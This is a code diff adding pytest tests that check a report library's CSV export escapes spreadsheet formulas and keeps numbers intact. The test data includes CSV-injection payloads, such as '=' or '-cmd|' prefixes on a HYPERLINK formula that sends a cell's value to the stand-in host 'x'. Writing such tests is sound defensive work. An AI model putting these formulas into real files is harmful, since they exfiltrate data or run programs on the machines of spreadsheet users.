@@ -18,7 +18,7 @@ from spheret.report.report import report
 from spheret.report.results import read_study
 from spheret.report.sections import Section
 from spheret.report.statistics import mean_and_deviation, over_documents, over_seeds
-from spheret.report.tables import Table, TableCell, ranked, to_latex, to_markdown
+from spheret.report.tables import Table, TableCell, ranked, to_csv, to_latex, to_markdown
 from spheret.report.verdicts import EVALUATION_NOISE, comparisons
 
 
@@ -484,6 +484,24 @@ class TestStringsOfARun:
             assert not [e for e in root.iter() if e.tag.endswith("script")]
         drawn = "".join(ElementTree.fromstring((directory / "figures" / "validation.svg").read_text()).itertext())
         assert self.NASTY in drawn
+
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "-1+", "+1 ", "-cmd|", "--"])
+    def test_are_no_formulas_in_the_csv(self, start):
+        """A spreadsheet would compute the first, and could start a program or send a cell to a server."""
+        formula = f'{start}HYPERLINK("http://x/"&A1)'
+        table = Table(formula, "c", ["n", formula], [[TableCell(formula), TableCell(formula, 1.0, formula)]])
+        row = next(iter(csv.DictReader(io.StringIO(to_csv([table]), newline=""))))
+        assert {key: text for key, text in row.items() if key != "value"} == dict.fromkeys(
+            ("table", "row", "column", "text", "source"), f"'{formula}"
+        )
+
+    @pytest.mark.parametrize(
+        "text", ["-", "-0.5", "+1.25", "-1,234.5", "-1e-05", "-0.30 \u00b1 0.10", "-3.1 %", "12", "a=1"]
+    )
+    def test_numbers_in_the_csv_stay_numbers(self, text):
+        table = Table("t", "c", ["n", "x"], [[TableCell("a"), TableCell(text, -0.5)]])
+        row = next(iter(csv.DictReader(io.StringIO(to_csv([table])))))
+        assert (row["text"], row["value"]) == (text, "-0.5")
 
     def test_are_text_in_markdown_and_latex(self):
         table = Table("t", "c", ["n", "x"], [[TableCell(self.NASTY), TableCell("a\nb|c")]])
